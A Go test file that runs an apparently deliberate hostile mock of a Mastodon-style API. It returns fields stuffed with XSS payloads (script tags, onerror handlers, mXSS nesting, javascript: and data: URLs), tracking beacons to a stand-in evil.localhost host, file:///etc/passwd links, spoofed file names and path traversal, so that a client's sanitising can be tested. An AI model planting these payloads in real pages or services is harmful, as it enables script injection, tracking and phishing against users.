package demo

import (
	"fmt"
	"net/http"
	"strings"
	"time"
)

// hostileHost is not among Hosts: it is for tests. Everything that a server can put into a text or an address is an attempt
// there to run a script (which would set window.pwned), to have evilHost asked for something, or to break a page.
const (
	hostileHost = "hostile.localhost"
	evilHost    = "evil.localhost"
)

const pwn = "window.pwned=1"

// hostile is the server. Its answers need no world.
type hostile struct {
	demo *Demo
	host string // with its port
	evil string // URL prefix that nobody may ask for
	base string
}

func newHostile(d *Demo) http.Handler {
	x := hostile{demo: d, host: hostileHost + d.world.port, evil: "http://" + evilHost + d.world.port + "/beacon?"}
	x.base = "http://" + x.host
	mux := http.NewServeMux()
	for pattern, h := range map[string]func(r *http.Request) any{
		"/.well-known/nodeinfo":                 x.nodeinfoLinks,
		"/nodeinfo/2.0":                         x.nodeinfo,
		"/.well-known/webfinger":                x.webfinger,
		"/api/v2/instance":                      x.instanceV2,
		"/api/v1/instance":                      x.instanceV1,
		"/api/v1/instance/rules":                func(*http.Request) any { return x.rules() },
		"/api/v1/instance/extended_description": func(*http.Request) any { return object{"updated_at": stamp(x.day()), "content": x.markup("about")} },
		"/api/v1/timelines/public":              x.timeline,
		"/api/v1/timelines/tag/{tag}":           x.timeline,
		"/api/v1/accounts/lookup":               func(*http.Request) any { return x.account() },
		"/api/v1/accounts/{id}":                 func(*http.Request) any { return x.account() },
		"/api/v1/accounts/{id}/statuses":        x.timeline,
		"/api/v1/accounts/{id}/featured_tags":   func(*http.Request) any { return x.featured() },
		"/api/v1/statuses/{id}":                 x.single,
		"/api/v1/statuses/{id}/context":         x.context,
		"/api/v1/trends/statuses":               x.timeline,
		"/api/v1/trends/tags":                   func(*http.Request) any { return x.tags() },
		"/api/v1/trends/links":                  func(*http.Request) any { return []*cardEntity{x.card()} },
		"/api/v1/custom_emojis":                 func(*http.Request) any { return x.emojis() },
		"/api/v1/directory":                     func(*http.Request) any { return []account{x.account()} },
		"/api/v2/search":                        func(*http.Request) any { return searchResult{[]account{x.account()}, []status{}, x.tags()} },
	} {
		mux.HandleFunc("GET "+pattern, func(w http.ResponseWriter, r *http.Request) {
			a := answer{body: h(r)}
			if a.body == nil {
				a = notFound()
			}
			a.write(w, r, true)
		})
	}
	mux.HandleFunc("/api/", func(w http.ResponseWriter, r *http.Request) { notFound().write(w, r, true) })
	d.mediaRoutes(mux)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		allowAnyOrigin(w.Header(), r)
		if r.Method == http.MethodOptions {
			preflight(w, r)
			return
		}
		mux.ServeHTTP(w, r)
	})
}

// beacon is all of evilHost: whoever asks it has been tracked.
func beacon(w http.ResponseWriter, r *http.Request) {
	allowAnyOrigin(w.Header(), r)
	w.WriteHeader(http.StatusNoContent)
}

func (x hostile) day() time.Time { return x.demo.world.now.AddDate(0, 0, -1) }

// text is an attempt for a plain-text field: it has to be shown as it stands.
func (x hostile) text(field string) string {
	return field + ` <img src=x onerror="` + pwn + `"><script>` + pwn + `</script>` + "\u202egpj.exe\u2066 {{.}} ${7*7} \x00'\"`"
}

// markup is an attempt for a field with HTML.
func (x hostile) markup(field string) string {
	return "<p>" + field + "</p>" + strings.Join(x.attempts(field), "\n")
}

func (x hostile) attempts(field string) []string {
	evil := x.evil + "field=" + field
	return []string{
		`<img src=x onerror="` + pwn + `">`,
		`<script>` + pwn + `</script>`,
		`<svg onload="` + pwn + `"><use href="` + evil + `#a"/></svg>`,
		`<img src="` + evil + `" width=1 height=1>`,
		`<img srcset="` + evil + ` 2x" loading=eager>`,
		`<picture><source srcset="` + evil + `"><img></picture>`,
		`<video src="` + evil + `" poster="` + evil + `" autoplay></video><audio src="` + evil + `" autoplay></audio>`,
		`<link rel=stylesheet href="` + evil + `"><style>@import url("` + evil + `"); body{display:none}</style>`,
		`<iframe src="` + evil + `" srcdoc="<script>parent.` + pwn + `</script>"></iframe>`,
		`<object data="` + evil + `"></object><embed src="` + evil + `">`,
		`<form action="` + evil + `"><input name=q autofocus onfocus="` + pwn + `"><button formaction="javascript:` + pwn + `">Log in again</button></form>`,
		`<meta http-equiv=refresh content="0;url=` + evil + `"><base href="` + evil + `">`,
		`<a href="javascript:` + pwn + `">script link</a>`,
		"<a href=\" jAvA\tScRiPt:" + pwn + "\">spelled script link</a>",
		`<a href="data:text/html,<script>` + pwn + `</script>">data link</a>`,
		`<a href="vbscript:` + pwn + `">old link</a><a href="blob:x">blob</a><a href="file:///etc/passwd">file</a>`,
		`<a href="https://norderau.example@evil.localhost/" class="u-url mention">@<span>rathaus</span></a>`,
		`<a href="` + evil + `" ping="` + evil + `" style="position:fixed;inset:0;z-index:9999" class="invisible">everywhere</a>`,
		`<p onclick="` + pwn + `" onmouseover="` + pwn + `" id="main" data-uri="x" data-action="open">handlers</p>`,
		`<details open ontoggle="` + pwn + `"><summary>details</summary></details><dialog open>dialog</dialog>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=` + pwn + `&gt;"></mglyph></table></mtext></math>`,
		`<noscript><p title="</noscript><img src=x onerror=` + pwn + `>"></noscript>`,
		`<template><img src=x onerror="` + pwn + `"></template><textarea></textarea><title><img src=x onerror="` + pwn + `"></title>`,
		`<table background="` + evil + `"><td style="background:url(` + evil + `)">cell</td></table>`,
		`<span class="h-card"><a href="javascript:` + pwn + `" class="u-url mention">@<span>you</span></a></span> <a href="javascript:` + pwn + `" class="mention hashtag" rel="tag">#<span>tag</span></a>`,
	}
}

// addresses are attempts for a field that holds one.
func (x hostile) addresses() []string {
	return []string{
		"javascript:" + pwn, " JaVaScRiPt:" + pwn, "data:text/html,<script>" + pwn + "</script>", "data:image/svg+xml,<svg onload='" + pwn + "'/>",
		"//evil.localhost/beacon", "http:evil", "vbscript:" + pwn, "file:///etc/passwd", "https://[::1", "\u202ehttps://evil.example", "ht\ttps://x", "",
	}
}

func (x hostile) address(i int) string { return x.addresses()[i%len(x.addresses())] }

// picture is an address that may be asked: the host's own.
func (x hostile) picture() string { return x.base + "/avatars/original/missing.png" }

func (x hostile) account() account {
	yes, roles := true, []role{{ID: "1", Name: x.text("role"), Color: "red;background:url(" + x.evil + "field=role)"}}
	return account{
		ID: "666", Username: "mallory", Acct: "mallory", DisplayName: x.text("name") + strings.Repeat("\u0301", 400), Discoverable: &yes, Indexable: true,
		CreatedAt: stamp(x.day().AddDate(-1, 0, 0)), Note: x.markup("bio"), URL: x.address(0), URI: x.base + "/users/mallory",
		Avatar: x.address(3), AvatarStatic: x.picture(), Header: x.address(0), HeaderStatic: x.address(2), FollowersCount: -5, FollowingCount: 1 << 60,
		StatusesCount: 1 << 40, LastStatusAt: optional(x.text("day")), Emojis: x.emojis(), Roles: &roles,
		Fields: []fieldEntity{
			{Name: x.text("field"), Value: x.markup("field"), VerifiedAt: optional(x.text("verified"))},
			{Name: strings.Repeat("W", 3000), Value: `<a href="javascript:` + pwn + `" rel="me">https://norderau.example</a>`},
		},
	}
}

func (x hostile) emojis() []customEmoji {
	return []customEmoji{
		{Shortcode: "lamp", URL: x.address(0), StaticURL: x.address(2), Visible: true},
		{Shortcode: `"><img src=x onerror=` + pwn + `>`, URL: x.picture(), StaticURL: x.picture(), Visible: true},
		{Shortcode: "p", URL: x.picture() + `" onerror="` + pwn, StaticURL: x.picture()},
		{Shortcode: "", URL: x.picture()},
	}
}

func (x hostile) tags() []tagEntity {
	return []tagEntity{
		{ID: "1", Name: x.text("tag"), URL: x.address(0), History: []usage{{Day: x.text("day"), Accounts: x.text("accounts"), Uses: "-1"}}},
		{ID: "2", Name: "../../settings", URL: x.address(4), History: []usage{}},
	}
}

func (x hostile) featured() []featuredTag {
	return []featuredTag{{ID: "1", Name: x.text("featured"), URL: x.address(0), StatusesCount: x.text("count")}}
}

func (x hostile) card() *cardEntity {
	return &cardEntity{
		URL: x.address(0), Title: x.text("card"), Description: x.text("card description"), Type: "video", AuthorName: x.text("author"), AuthorURL: x.address(1),
		ProviderName: x.text("provider"), ProviderURL: x.address(2), HTML: fmt.Sprintf(`<iframe src="%sfield=card"></iframe><script>%s</script>`, x.evil, pwn),
		Width: -1, Height: 1 << 40, Image: optional(x.address(3)), ImageDescription: x.text("card image"), EmbedURL: x.address(0), Blurhash: optional("💥"),
		PublishedAt: optional(x.text("date")), Authors: []cardAuthor{{Name: x.text("card author"), URL: x.address(0)}}, Language: optional(x.text("language")),
	}
}
